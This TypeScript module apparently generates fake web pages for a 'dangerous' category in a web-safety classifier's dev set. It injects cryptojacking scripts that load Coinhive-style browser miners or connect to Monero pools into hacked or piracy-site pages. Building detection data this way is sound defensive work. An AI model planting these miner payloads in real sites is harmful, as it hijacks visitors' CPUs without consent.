import type { Family } from '../family.ts'
import type { Chance } from '../make/chance.ts'
import { badPlace, honestHost, urlAt } from '../make/hosts/hosts.ts'
import { documentOf, filler } from '../make/pages/layout.ts'

const MINER_SCRIPTS: readonly ((chance: Chance) => string)[] = [
  (chance) =>
    `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var m=new CoinHive.Anonymous('${chance.hex(32)}',{throttle:0.3});m.start();</script>`,
  (chance) =>
    `<script src="https://www.hostingcloud.racing/${chance.letters(4)}.js"></script><script>var _client=new Client.Anonymous('${chance.hex(64)}',{throttle:0,c:'w'});_client.start();</script>`,
  (chance) =>
    `<script src="https://crypto-loot.org/lib/miner.min.js"></script><script>var miner=new CRLT.Anonymous('${chance.hex(44)}',{threads:4});miner.start();</script>`,
  (chance) =>
    `<script src="https://webminepool.com/lib/base.js"></script><script>var miner=WMP.Anonymous('SK_${chance.letters(20)}',{throttle:0.5});miner.start();</script>`,
  (chance) =>
    `<script>var w=[];for(var i=0;i<navigator.hardwareConcurrency;i++){w.push(new Worker("worker.js"))}var s=new WebSocket("wss://${chance.name(3)}.com:8443/proxy");s.onopen=function(){s.send(JSON.stringify({method:"login",params:{login:"4${chance.letters(94)}",pass:"x",agent:"xmr-wasm"},id:1}))};s.onmessage=function(e){w.forEach(function(k){k.postMessage({job:JSON.parse(e.data),algo:"cryptonight"})})};fetch("cryptonight.wasm").then(function(r){return r.arrayBuffer()}).then(WebAssembly.compile)</script>`,
  (chance) =>
    `<script src="js/${chance.letters(5)}.js"></script><script>startMining("${chance.of(['moneroocean.stream', 'minexmr.com', 'supportxmr.com'])}","4${chance.letters(94)}");throttleMiner=20;</script>`,
]

export const miner: Family = {
  id: 'miner',
  expected: 'dangerous',
  split: 'dev',
  make(chance) {
    const isHacked = chance.maybe(0.5)
    const title = isHacked
      ? 'Welcome'
      : chance.of([
          'Watch Full Movie Online Free HD',
          'Free Live Streaming',
          'Manga Online',
          'Torrent Search',
        ])
    const url = isHacked ? `https://${honestHost(chance)}/` : urlAt(badPlace(null, chance))
    const body = documentOf(
      {
        language: 'en',
        title,
        heading: title,
        main: filler('en', 3 + chance.below(6), chance),
        scripts: chance.of(MINER_SCRIPTS)(chance),
      },
      chance,
    )
    return { url, body, isHonest: isHacked }
  },
}
